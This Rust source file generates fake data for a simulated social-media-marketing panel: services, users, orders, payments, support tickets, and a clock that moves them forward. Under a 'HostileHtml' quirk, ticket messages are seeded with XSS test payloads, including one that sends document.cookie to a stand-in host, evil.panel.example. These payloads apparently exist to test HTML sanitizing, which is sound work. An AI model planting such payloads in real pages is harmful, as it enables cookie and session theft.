//! The panel's data: seeded generation at any size, and the clock that moves it.
//!
//! Ids are dense and ascending (`id = base + index`), and rows are stored in
//! id order, which is also creation order, so lookups and time ranges are
//! index arithmetic and binary searches even at a million orders.

use rand::{rngs::StdRng, Rng, SeedableRng};
use serde::Serialize;

use crate::config::{Config, Quirk, Quirks};

/// The fake clock's start: 2026-10-26T07:33:20Z.
pub const BASE_NOW: i64 = 1_793_000_000;
pub const CURRENCY: &str = "USD";
const DAY: i64 = 86_400;
const HOUR: i64 = 3_600;
pub const FIRST_ORDER_ID: i64 = 550_000;
pub const FIRST_USER_ID: i64 = 1_001;
pub const FIRST_PAYMENT_ID: i64 = 70_001;
pub const FIRST_TICKET_ID: i64 = 9_001;

pub const STAFF: [&str; 4] = ["Mira Holt", "Deniz Arslan", "Theo Brandt", "Lena Sorel"];
/// A bot account that answers like staff (the staff directory can give it the "bot" role).
pub const BOT_STAFF: &str = "AutoReply Bot";

#[derive(Debug, Clone, Serialize)]
pub struct Service {
    pub id: i64,
    pub name: String,
    #[serde(rename = "type")]
    pub kind: String,
    pub category: String,
    pub rate_micros: i64,
    pub min: i64,
    pub max: i64,
    /// What the generator uses for durations (None: no speed in the name).
    #[serde(skip)]
    pub per_day: Option<i64>,
}

#[derive(Debug, Clone, Serialize)]
pub struct User {
    pub id: i64,
    pub username: String,
    pub email: String,
    pub balance_micros: i64,
    pub spent_micros: i64,
    pub status: String,
    pub created: i64,
    pub last_auth: Option<i64>,
    pub discount: i64,
}

#[derive(Debug, Clone, Serialize)]
pub struct Order {
    pub id: i64,
    pub external_id: Option<String>,
    pub user: String,
    pub creation_type: String,
    pub charge_micros: i64,
    pub provider_charge_micros: i64,
    pub link: String,
    pub start_count: Option<i64>,
    pub quantity: i64,
    pub remains: i64,
    pub service_id: i64,
    pub service_name: String,
    pub status: String,
    pub provider: Option<String>,
    pub mode: String,
    pub created: i64,
    pub last_update: i64,
    pub ip_address: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct Payment {
    pub id: i64,
    pub user: String,
    pub user_id: i64,
    pub balance_micros: i64,
    pub amount_micros: i64,
    pub method: String,
    pub status: String,
    pub fraud_risk: Option<String>,
    pub memo: String,
    pub mode: String,
    pub created: i64,
    pub updated: i64,
}

#[derive(Debug, Clone, Serialize)]
pub struct Message {
    pub id: i64,
    pub message: String,
    pub is_staff: bool,
    pub staff_name: Option<String>,
    pub created: i64,
}

#[derive(Debug, Clone, Serialize)]
pub struct Ticket {
    pub id: i64,
    pub user_id: i64,
    pub username: String,
    pub subject: String,
    pub status: String,
    pub assignee: Option<String>,
    pub created: i64,
    pub last_update: i64,
    pub messages: Vec<Message>,
}

/// Everything the panel holds, and its clock.
#[derive(Debug)]
pub struct World {
    pub now: i64,
    /// The days the generated orders span (the data's density); new orders
    /// arrive at the same rate.
    pub order_days: i64,
    pub services: Vec<Service>,
    pub users: Vec<User>,
    pub orders: Vec<Order>,
    pub payments: Vec<Payment>,
    pub tickets: Vec<Ticket>,
    pub quirks: Quirks,
    /// See [`Config::catalogue_moves`].
    catalogue_moves: bool,
    catalogue_ticks: usize,
    next_message_id: i64,
    rng: StdRng,
}

/// (name, type, category, rate per 1000 in cents, min, max, speed per day)
type ServiceSeed = (
    &'static str,
    &'static str,
    &'static str,
    i64,
    i64,
    i64,
    Option<i64>,
);

const SERVICES: &[ServiceSeed] = &[
    (
        "Instagram Followers [Speed: 5-10K/Day]",
        "Default",
        "Instagram",
        180,
        50,
        100_000,
        Some(5_000),
    ),
    (
        "Instagram Likes | Speed: 500/Hour",
        "Default",
        "Instagram",
        45,
        20,
        50_000,
        Some(12_000),
    ),
    (
        "TikTok Views [1M/Day]",
        "Default",
        "TikTok",
        2,
        100,
        10_000_000,
        Some(1_000_000),
    ),
    (
        "YouTube Views - speed: 20k/day",
        "Default",
        "YouTube",
        120,
        500,
        1_000_000,
        Some(20_000),
    ),
    (
        "Twitter Followers [Speed: 100-200/Hour]",
        "Default",
        "Twitter",
        300,
        10,
        20_000,
        Some(2_400),
    ),
    (
        "Telegram Members [Speed: 50/Min] No refill",
        "Default",
        "Telegram",
        90,
        100,
        100_000,
        Some(72_000),
    ),
    (
        "Facebook Page Likes [Speed: 2-3K/D]",
        "Default",
        "Facebook",
        250,
        100,
        50_000,
        Some(2_000),
    ),
    (
        "Spotify Plays (premium accounts)",
        "Default",
        "Spotify",
        80,
        1_000,
        1_000_000,
        None,
    ),
    (
        "Instagram Comments Custom",
        "Custom Comments",
        "Instagram",
        1_500,
        5,
        1_000,
        None,
    ),
    (
        "YouTube Likes [Speed: 0/Day]",
        "Default",
        "YouTube",
        200,
        20,
        10_000,
        None,
    ),
    (
        "Threads Followers [SPEED: 1K/DAY] 🇹🇷 Turkish",
        "Default",
        "Threads",
        400,
        50,
        10_000,
        Some(1_000),
    ),
    (
        "Instagram Story Views [Speed: 300/H]",
        "Package",
        "Instagram",
        30,
        100,
        100_000,
        Some(7_200),
    ),
];

const ADJ: &[&str] = &[
    "bright", "nova", "urban", "pixel", "lunar", "coastal", "rapid", "velvet", "amber", "quiet",
    "solar", "wild",
];
const NOUN: &[&str] = &[
    "media", "studio", "growth", "social", "reach", "wave", "agency", "pulse", "boost", "labs",
    "hub", "works",
];
const UNICODE_NAMES: &[&str] = &[
    "çiçek_medya",
    "zoë_studio",
    "müller_reach",
    "ñandú_social",
    "ярко_smm",
    "星星_growth",
];
const SUBJECTS: &[&str] = &[
    "Orders - Refill",
    "Orders - Cancel",
    "Orders - Speed up",
    "Orders - Partial",
    "Payment - Not received",
    "Other",
];
const METHODS: &[&str] = &[
    "Perfect Money",
    "crypto_usdt",
    "Stripe",
    "payeer",
    "Bank Transfer (manual)",
];
const CUSTOMER_LINES: &[&str] = &[
    "My order is stuck, nothing has moved since yesterday.",
    "Please refill, I lost about 20% of the followers.",
    "Can you cancel this one? I entered the wrong link.",
    "Still waiting for a reply...",
    "Hello?? Any update on this?",
    "Thank you, it works now!",
    "The start count is wrong, please check.",
];
const STAFF_LINES: &[&str] = &[
    "Done ✅",
    "Refill requested.",
    "We have forwarded your request to the provider; the refill should start within 24 hours. Please keep the account public.",
    "The order is canceled and the amount is back on your balance. Sorry for the trouble!",
    "Speed up requested from our provider. Delivery resumes shortly; we will keep an eye on it.",
    "Please wait.",
    "Could you send the exact link you used? The one on the order does not open for us.",
];
const HOSTILE: &[&str] = &[
    "<script>alert('pwned')</script>Please check my order",
    "<img src=x onerror=\"alert(document.cookie)\">refill please",
    "<a href=\"javascript:alert(1)\">click to see proof</a>",
    "<iframe src=\"https://evil.panel.example\"></iframe><style>body{display:none}</style>help",
    "<div onmouseover=\"fetch('https://evil.panel.example/'+document.cookie)\">hover me</div>",
];

impl World {
    pub fn generate(config: &Config) -> World {
        let mut rng = StdRng::seed_from_u64(config.seed);
        let quirks = config.quirks.clone();
        let now = config.now;
        let services = SERVICES
            .iter()
            .enumerate()
            .map(
                |(i, &(name, kind, category, cents, min, max, per_day))| Service {
                    id: 101 + i as i64,
                    name: name.to_owned(),
                    kind: kind.to_owned(),
                    category: category.to_owned(),
                    rate_micros: cents * 10_000,
                    min,
                    max,
                    per_day,
                },
            )
            .collect();
        let mut world = World {
            now,
            order_days: config.order_days.max(1),
            services,
            users: Vec::with_capacity(config.users),
            orders: Vec::with_capacity(config.orders),
            payments: Vec::new(),
            tickets: Vec::with_capacity(config.tickets),
            quirks,
            catalogue_moves: config.catalogue_moves,
            catalogue_ticks: 0,
            next_message_id: 1,
            rng: StdRng::seed_from_u64(config.seed ^ 0x5eed),
        };
        world.generate_users(config.users.max(1), &mut rng);
        let span = config.order_days.max(1) * DAY;
        for i in 0..config.orders {
            let created = now - span + (i as i64 * span) / config.orders.max(1) as i64;
            let order = world.new_order(created, &mut rng);
            world.orders.push(order);
        }
        let payments = (config.orders / 4).max(config.users.min(10));
        for i in 0..payments {
            let created = now - 90 * DAY + (i as i64 * 90 * DAY) / payments.max(1) as i64;
            let p = world.new_payment(created, &mut rng);
            world.payments.push(p);
        }
        world.settle_user_money();
        for i in 0..config.tickets {
            let created = now - 30 * DAY + (i as i64 * 30 * DAY) / config.tickets.max(1) as i64;
            let t = world.new_ticket(created, &mut rng);
            world.tickets.push(t);
        }
        world
    }

    fn generate_users(&mut self, count: usize, rng: &mut StdRng) {
        for i in 0..count {
            // Sign-ups spread over a year, a few inside the last days.
            let created = self.now - 365 * DAY + (i as i64 * 365 * DAY) / count as i64;
            let id = FIRST_USER_ID + i as i64;
            let username = if self.quirks.has(Quirk::Unicode) && i % 97 == 5 {
                format!("{}{}", UNICODE_NAMES[i % UNICODE_NAMES.len()], i)
            } else {
                format!(
                    "{}_{}{}",
                    ADJ[rng.random_range(0..ADJ.len())],
                    NOUN[rng.random_range(0..NOUN.len())],
                    i
                )
            };
            let last_auth =
                (!rng.random_bool(0.1)).then(|| self.now - rng.random_range(0..30 * DAY));
            self.users.push(User {
                id,
                email: format!(
                    "{}@mail.panel.example",
                    username.replace(|c: char| !c.is_ascii_alphanumeric(), "")
                ),
                username,
                balance_micros: 0,
                spent_micros: 0,
                status: if rng.random_bool(0.03) {
                    "suspended"
                } else {
                    "active"
                }
                .into(),
                created,
                last_auth: last_auth.map(|t| t.max(created)),
                discount: if rng.random_bool(0.1) {
                    rng.random_range(1..=15)
                } else {
                    0
                },
            });
        }
    }

    /// A user who had signed up by `t` (the first user when none had).
    fn user_before(&self, t: i64, rng: &mut StdRng) -> usize {
        let upto = self.users.partition_point(|u| u.created <= t).max(1);
        rng.random_range(0..upto)
    }

    fn new_order(&mut self, created: i64, rng: &mut StdRng) -> Order {
        let id = self.orders.last().map_or(FIRST_ORDER_ID, |o| o.id + 1);
        let si = rng.random_range(0..self.services.len());
        let service = &self.services[si];
        let quantity = (rng.random_range(service.min..=service.max.min(service.min * 200)) / 10
            * 10)
            .max(service.min);
        let charge_micros = service.rate_micros * quantity / 1000;
        let user = self.users[self.user_before(created, rng)].username.clone();
        let age = self.now - created;
        let status = pick_status(age, rng);
        let per_day = service.per_day.unwrap_or(50_000);
        let nominal = quantity * DAY / per_day.max(1);
        let (remains, last_update) = match status {
            "completed" => {
                // One in ten is slow: well past quantity / speed x 2.
                let factor = if rng.random_bool(0.1) {
                    rng.random_range(2.5..6.0)
                } else {
                    rng.random_range(0.1..1.5)
                };
                (
                    0,
                    (created + (nominal as f64 * factor) as i64 + 60).min(self.now),
                )
            }
            "partial" => (
                quantity / rng.random_range(2..10),
                (created + nominal * 2).min(self.now),
            ),
            "canceled" | "error" | "fail" => (
                quantity,
                (created + rng.random_range(60..3 * HOUR)).min(self.now),
            ),
            _ => (
                quantity - quantity * rng.random_range(0..80) / 100,
                (created + rng.random_range(0..HOUR)).min(self.now),
            ),
        };
        let started = !matches!(status, "pending" | "canceled" | "error" | "fail");
        Order {
            id,
            external_id: (rng.random_bool(0.8))
                .then(|| format!("{}", 30_000_000 + id * 7 % 9_000_000)),
            user,
            creation_type: if rng.random_bool(0.3) { "api" } else { "web" }.into(),
            charge_micros,
            provider_charge_micros: charge_micros * 6 / 10,
            link: format!(
                "https://social.panel.example/p/{}{}",
                NOUN[id as usize % NOUN.len()],
                id % 100_000
            ),
            // Some panels send no start count even for started orders (a quirk, kept in the data so the truth is what is served).
            start_count: (started && !(self.quirks.has(Quirk::StartCountNull) && id % 9 == 4))
                .then(|| rng.random_range(0..50_000)),
            quantity,
            remains,
            service_id: service.id,
            service_name: service.name.clone(),
            status: status.into(),
            provider: (rng.random_bool(0.9))
                .then(|| format!("provider{}.panel.example", service.id % 3 + 1)),
            mode: if rng.random_bool(0.85) {
                "auto"
            } else {
                "manual"
            }
            .into(),
            created,
            last_update,
            ip_address: format!("198.51.100.{}", id % 250 + 1),
        }
    }

    fn new_payment(&mut self, created: i64, rng: &mut StdRng) -> Payment {
        let ui = self.user_before(created, rng);
        let status = match rng.random_range(0..100) {
            0..=79 => "completed",
            80..=89 => "pending",
            90..=97 => "failed",
            _ => "refunded",
        };
        Payment {
            id: self.payments.last().map_or(FIRST_PAYMENT_ID, |p| p.id + 1),
            user: self.users[ui].username.clone(),
            user_id: self.users[ui].id,
            balance_micros: 0,
            amount_micros: rng.random_range(5..500) * 1_000_000 + rng.random_range(0..100) * 10_000,
            method: METHODS[rng.random_range(0..METHODS.len())].into(),
            status: status.into(),
            fraud_risk: match rng.random_range(0..10) {
                0 => Some("high".into()),
                1 | 2 => Some("low".into()),
                _ => None,
            },
            memo: if rng.random_bool(0.2) {
                "bonus for big order".into()
            } else {
                String::new()
            },
            mode: if rng.random_bool(0.9) {
                "auto"
            } else {
                "manual"
            }
            .into(),
            created,
            updated: created + rng.random_range(0..600),
        }
    }

    /// Spent = non-canceled charges; balance = completed payments - spent (never below 0).
    fn settle_user_money(&mut self) {
        let index: std::collections::HashMap<&str, usize> = self
            .users
            .iter()
            .enumerate()
            .map(|(i, u)| (u.username.as_str(), i))
            .collect();
        let mut spent = vec![0i64; self.users.len()];
        let mut paid = vec![0i64; self.users.len()];
        for o in &self.orders {
            if o.status != "canceled" {
                if let Some(&i) = index.get(o.user.as_str()) {
                    spent[i] += o.charge_micros;
                }
            }
        }
        for p in &mut self.payments {
            if let Some(&i) = index.get(p.user.as_str()) {
                if p.status == "completed" {
                    paid[i] += p.amount_micros;
                }
                p.balance_micros = (paid[i] - spent[i]).max(0);
            }
        }
        for (i, u) in self.users.iter_mut().enumerate() {
            u.spent_micros = spent[i];
            u.balance_micros = (paid[i] - spent[i]).max(0);
        }
    }

    fn message(&mut self, html: String, staff: Option<&str>, created: i64) -> Message {
        let id = self.next_message_id;
        self.next_message_id += 1;
        Message {
            id,
            message: html,
            is_staff: staff.is_some(),
            staff_name: staff.map(str::to_owned),
            created,
        }
    }

    fn customer_html(&self, subject: &str, order_ids: &[i64], text: &str) -> String {
        let ids: Vec<String> = order_ids.iter().map(|i| i.to_string()).collect();
        format!(
            "<div><b>{subject}</b></div><div><b>Order ID</b>: {}</div><hr>{text}",
            ids.join(", ")
        )
    }

    fn new_ticket(&mut self, created: i64, rng: &mut StdRng) -> Ticket {
        let id = self.tickets.last().map_or(FIRST_TICKET_ID, |t| t.id + 1);
        let ui = self.user_before(created, rng);
        let (user_id, username) = (self.users[ui].id, self.users[ui].username.clone());
        let subject = SUBJECTS[rng.random_range(0..SUBJECTS.len())];
        // Orders quoted: ones that existed by then, sometimes an id no order has.
        let existing = self.orders.partition_point(|o| o.created <= created);
        let mut quoted = Vec::new();
        if existing > 0 && !subject.starts_with("Other") {
            for _ in 0..rng.random_range(1..=2) {
                quoted.push(self.orders[rng.random_range(0..existing)].id);
            }
        }
        if rng.random_bool(0.1) {
            quoted.push(rng.random_range(9_000_000_000..9_999_999_999));
        }
        let mut text = CUSTOMER_LINES[rng.random_range(0..CUSTOMER_LINES.len())].to_owned();
        if self.quirks.has(Quirk::HostileHtml) && id % 11 == 3 {
            text = HOSTILE[(id as usize / 11) % HOSTILE.len()].to_owned();
        } else if self.quirks.has(Quirk::Unicode) && id % 13 == 4 {
            text.push_str(" 🙏 Merci beaucoup — çok teşekkürler");
        }
        let first = self.customer_html(subject, &quoted, &text);
        let mut messages = vec![self.message(first, None, created)];
        let mut t = created;
        let rounds = rng.random_range(0..4);
        let staff = if rng.random_bool(0.1) {
            BOT_STAFF
        } else {
            STAFF[rng.random_range(0..STAFF.len())]
        };
        for _ in 0..rounds {
            // A quick fire now and then: under 30 s.
            t += if rng.random_bool(0.15) {
                rng.random_range(5..29)
            } else {
                rng.random_range(120..6 * HOUR)
            };
            if t > self.now {
                break;
            }
            let line = STAFF_LINES[rng.random_range(0..STAFF_LINES.len())].to_owned();
            messages.push(self.message(format!("<p>{line}</p>"), Some(staff), t));
            // The customer writes again, sometimes two or three times.
            for _ in 0..rng.random_range(0..=3) {
                t += rng.random_range(60..2 * HOUR);
                if t > self.now {
                    break;
                }
                let line = CUSTOMER_LINES[rng.random_range(0..CUSTOMER_LINES.len())];
                messages.push(self.message(format!("<div>{line}</div>"), None, t));
            }
        }
        let last = messages.last().expect("a ticket has its first message");
        let status = if last.is_staff {
            if self.now - last.created > 7 * DAY {
                "closed"
            } else {
                "answered"
            }
        } else {
            "pending"
        };
        Ticket {
            id,
            user_id,
            username,
            subject: subject.into(),
            status: status.into(),
            assignee: messages.iter().rev().find_map(|m| m.staff_name.clone()),
            created,
            last_update: last.created,
            messages,
        }
    }

    // Rows are kept in id order (ids only grow, rows may be deleted): found by binary search.
    pub fn order(&self, id: i64) -> Option<&Order> {
        let i = self.orders.binary_search_by_key(&id, |o| o.id).ok()?;
        self.orders.get(i)
    }
    pub fn order_mut(&mut self, id: i64) -> Option<&mut Order> {
        let i = self.orders.binary_search_by_key(&id, |o| o.id).ok()?;
        self.orders.get_mut(i)
    }
    pub fn ticket_mut(&mut self, id: i64) -> Option<&mut Ticket> {
        let i = self.tickets.binary_search_by_key(&id, |t| t.id).ok()?;
        self.tickets.get_mut(i)
    }
    pub fn ticket(&self, id: i64) -> Option<&Ticket> {
        let i = self.tickets.binary_search_by_key(&id, |t| t.id).ok()?;
        self.tickets.get(i)
    }
    pub fn user_by_name(&self, username: &str) -> Option<&User> {
        self.users.iter().find(|u| u.username == username)
    }

    /// An admin changes an order's status in the web admin (an old open
    /// order that finishes, a completed one canceled or refunded later).
    pub fn set_order_status(&mut self, id: i64, status: &str) -> bool {
        let now = self.now;
        let Some(o) = self.order_mut(id) else {
            return false;
        };
        o.status = status.to_owned();
        if matches!(status, "completed" | "canceled") {
            o.remains = if status == "completed" { 0 } else { o.quantity };
        }
        o.last_update = now;
        true
    }

    /// A payment's status moves (a pending one completes or fails).
    pub fn set_payment_status(&mut self, id: i64, status: &str) -> bool {
        let now = self.now;
        match self.payments.iter_mut().find(|p| p.id == id) {
            Some(p) => {
                p.status = status.to_owned();
                p.updated = now;
                true
            }
            None => false,
        }
    }

    /// Rows deleted on the panel: they are no longer listed nor found.
    pub fn delete_order(&mut self, id: i64) -> bool {
        let before = self.orders.len();
        self.orders.retain(|o| o.id != id);
        self.orders.len() < before
    }
    pub fn delete_user(&mut self, id: i64) -> bool {
        let before = self.users.len();
        self.users.retain(|u| u.id != id);
        self.users.len() < before
    }
    pub fn delete_ticket(&mut self, id: i64) -> bool {
        let before = self.tickets.len();
        self.tickets.retain(|t| t.id != id);
        self.tickets.len() < before
    }

    /// New orders created at the current clock (orders arriving mid-paging).
    pub fn arrive_orders(&mut self, count: usize) {
        let mut rng = std::mem::replace(&mut self.rng, StdRng::seed_from_u64(0));
        for _ in 0..count {
            let mut o = self.new_order(self.now, &mut rng);
            o.status = "pending".into();
            o.remains = o.quantity;
            o.start_count = None;
            o.last_update = self.now;
            self.orders.push(o);
        }
        self.rng = rng;
    }

    /// A rival's catalogue on the move, one step a tick: the oldest service
    /// is withdrawn and a new one added, one is repriced by +25 %, one by
    /// +2 % (under a 5 % threshold) and one renamed, each a different one.
    fn move_catalogue(&mut self) {
        self.catalogue_ticks += 1;
        let n = self.catalogue_ticks;
        if self.services.len() < 5 {
            return;
        }
        let withdrawn = self.services.remove(0);
        let id = self.services.iter().map(|s| s.id).max().unwrap_or(100) + 1;
        self.services.push(Service {
            id,
            name: format!("Exclusive Drop {n} Followers [Speed: 2K/Day]"),
            rate_micros: withdrawn.rate_micros + 100_000,
            ..withdrawn
        });
        // Among the services before the new one, three distinct positions.
        let len = self.services.len() - 1;
        let at = |k: usize| (n * 3 + k) % len;
        self.services[at(0)].rate_micros = self.services[at(0)].rate_micros * 125 / 100;
        self.services[at(1)].rate_micros = self.services[at(1)].rate_micros * 102 / 100;
        let renamed = &mut self.services[at(2)];
        let base = renamed
            .name
            .split(" · v")
            .next()
            .unwrap_or_default()
            .to_owned();
        renamed.name = format!("{base} · v{n}");
    }

    /// Moves the clock forward: new orders, open orders progress and finish,
    /// new payments, new ticket messages and tickets (and, for a rival, the
    /// catalogue).
    pub fn tick(&mut self, seconds: i64) {
        if self.catalogue_moves {
            self.move_catalogue();
        }
        let mut rng = std::mem::replace(&mut self.rng, StdRng::seed_from_u64(0));
        let from = self.now;
        self.now += seconds.max(1);
        let now = self.now;
        // Orders in progress move on; the stuck ones (open for over 12 h) stay stuck.
        for o in self.orders.iter_mut().rev() {
            if o.created < now - 3 * DAY {
                break;
            }
            if o.created < now - 12 * HOUR {
                continue;
            }
            let (before, remains_before) = (o.status.clone(), o.remains);
            match o.status.as_str() {
                "pending" => {
                    o.status = "in_progress".into();
                    o.start_count = Some(rng.random_range(0..50_000));
                }
                "in_progress" | "processing" => {
                    let done = o.quantity * rng.random_range(20..70) / 100;
                    o.remains = (o.remains - done).max(0);
                    if o.remains == 0 {
                        o.status = "completed".into();
                    } else if rng.random_bool(0.05) {
                        o.status = "partial".into();
                    }
                }
                _ => {}
            }
            if o.status != before || o.remains != remains_before {
                o.last_update = now;
            }
        }
        let new_orders = ((seconds * self.orders.len() as i64) / (self.order_days * DAY))
            .clamp(3, 5_000) as usize;
        for i in 0..new_orders {
            let created = from + 1 + (i as i64 * seconds) / new_orders as i64;
            let mut o = self.new_order(created, &mut rng);
            o.status = "pending".into();
            o.remains = o.quantity;
            o.start_count = None;
            o.last_update = created;
            self.orders.push(o);
        }
        for i in 0..(new_orders / 4).max(1) {
            let created = from + 1 + i as i64;
            let p = self.new_payment(created, &mut rng);
            self.payments.push(p);
        }
        // Customers write again on open tickets, and a new ticket arrives.
        let open: Vec<i64> = self
            .tickets
            .iter()
            .rev()
            .filter(|t| t.status != "closed")
            .take(3)
            .map(|t| t.id)
            .collect();
        for id in open {
            let line = CUSTOMER_LINES[rng.random_range(0..CUSTOMER_LINES.len())];
            let m = self.message(format!("<div>{line}</div>"), None, now);
            let t = self.ticket_mut(id).expect("listed above");
            t.messages.push(m);
            t.status = "pending".into();
            t.last_update = now;
        }
        let t = self.new_ticket(now, &mut rng);
        self.tickets.push(t);
        self.rng = rng;
    }

    /// A staff reply through the API.
    /// The customer writes `html` in a ticket now; it waits for an answer.
    pub fn customer_writes(&mut self, ticket_id: i64, html: &str) -> Option<i64> {
        let now = self.now;
        let m = self.message(html.to_owned(), None, now);
        let id = m.id;
        let t = self.ticket_mut(ticket_id)?;
        t.messages.push(m);
        t.status = "pending".into();
        t.last_update = now;
        Some(id)
    }

    pub fn reply(&mut self, ticket_id: i64, staff: &str, html: &str) -> Option<i64> {
        let now = self.now;
        let m = self.message(html.to_owned(), Some(staff), now);
        let id = m.id;
        let t = self.ticket_mut(ticket_id)?;
        t.messages.push(m);
        t.status = "answered".into();
        t.last_update = now;
        Some(id)
    }

    pub fn add_payment(
        &mut self,
        username: &str,
        amount_micros: i64,
        method: &str,
        memo: &str,
    ) -> Option<i64> {
        let user = self.user_by_name(username)?;
        let user_id = user.id;
        let id = self.payments.last().map_or(FIRST_PAYMENT_ID, |p| p.id + 1);
        let balance = user.balance_micros + amount_micros;
        self.payments.push(Payment {
            id,
            user: username.to_owned(),
            user_id,
            balance_micros: balance,
            amount_micros,
            method: method.to_owned(),
            status: "completed".into(),
            fraud_risk: None,
            memo: memo.to_owned(),
            mode: "manual".into(),
            created: self.now,
            updated: self.now,
        });
        let u = self.users.iter_mut().find(|u| u.id == user_id)?;
        u.balance_micros = balance;
        Some(id)
    }
}

fn pick_status(age: i64, rng: &mut StdRng) -> &'static str {
    let roll = rng.random_range(0..1000);
    if age < 2 * HOUR {
        match roll {
            0..=199 => "pending",
            200..=699 => "in_progress",
            700..=849 => "processing",
            _ => "completed",
        }
    } else if age < 2 * DAY {
        match roll {
            0..=99 => "in_progress",
            100..=139 => "processing",
            140..=159 => "awaiting",
            160..=759 => "completed",
            760..=849 => "partial",
            850..=929 => "canceled",
            930..=969 => "error",
            _ => "fail",
        }
    } else {
        match roll {
            0..=4 => "in_progress",
            5..=7 => "refilling",
            8..=769 => "completed",
            770..=849 => "partial",
            850..=959 => "canceled",
            960..=979 => "error",
            _ => "fail",
        }
    }
}
